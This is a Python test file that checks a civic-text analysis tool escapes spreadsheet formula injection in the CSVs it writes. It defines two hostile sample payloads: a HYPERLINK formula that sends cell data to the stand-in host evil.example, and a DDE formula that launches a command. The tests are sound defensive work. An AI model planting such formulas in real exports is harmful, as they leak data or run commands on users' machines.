"""No citizen's text becomes a live formula in a CSV the analysis writes (spreadsheet formula injection)."""

from __future__ import annotations

import pandas as pd

from minsheng.engine.cells import formula_safe, formula_safe_frame
from minsheng.engine.pipeline import AnalyzeOptions, analyze
from minsheng.engine.result import AnalysisResult, read_result, write_result

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"查看原文")'
DDE = "=cmd|' /C calc'!A0"


def test_text_that_a_spreadsheet_would_run_starts_with_an_apostrophe():
    for text in (LEAK, DDE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"):
        assert formula_safe(text) == "'" + text
    for value in ("建议增加公交", "", "1+1=2", 7, -3.5, None):
        assert formula_safe(value) == value


def test_only_text_columns_change():
    frame = pd.DataFrame({"n": [-1, 2], "text": [DDE, "建议"]})
    safe = formula_safe_frame(frame)
    assert safe["n"].tolist() == [-1, 2] and safe["text"].tolist() == ["'" + DDE, "建议"]
    assert frame["text"].tolist() == [DDE, "建议"]  # the input is not changed


def test_the_analysis_csvs_are_safe_to_open(tmp_path):
    path = tmp_path / "in.csv"
    texts = [LEAK + "解放西路", "建议解放西路增加公交线路", "解放西路重复编号"]
    pd.DataFrame({"id": ["1", DDE, DDE], "text": texts}).to_csv(path, index=False)
    write_result(analyze([path], AnalyzeOptions(workers=1)), tmp_path / "out")
    rejects = pd.read_csv(tmp_path / "out" / "rejects.csv", dtype=str)
    assert rejects["id"].tolist() == ["'" + DDE]
    for csv in (tmp_path / "out").glob("*.csv"):
        for value in pd.read_csv(csv, dtype=str, keep_default_na=False).to_numpy().ravel():
            assert not value.startswith(("=", "+", "@")), f"{csv.name}: {value!r}"


def test_read_result_gives_back_the_texts_as_they_were(tmp_path):
    """The apostrophe is the file's, not the text's: read back, a formula-like text is itself again, and a text
    that really starts with an apostrophe (not before a formula start), or is only one, keeps it."""
    texts = [DDE, "＝全角", "'引号开头", "'", "-3", None, "建议"]
    themes = pd.DataFrame({"theme_id": list(range(len(texts))), "label": pd.array(texts, dtype="string"),
                           "parent_id": pd.array(texts[::-1], dtype="string")})
    write_result(AnalysisResult(records=pd.DataFrame({"id": ["m1"]}), themes=themes), tmp_path)
    back = read_result(tmp_path).themes
    assert back["label"].tolist() == pd.array(texts, dtype="string").tolist()
    assert back["parent_id"].tolist() == pd.array(texts[::-1], dtype="string").tolist()
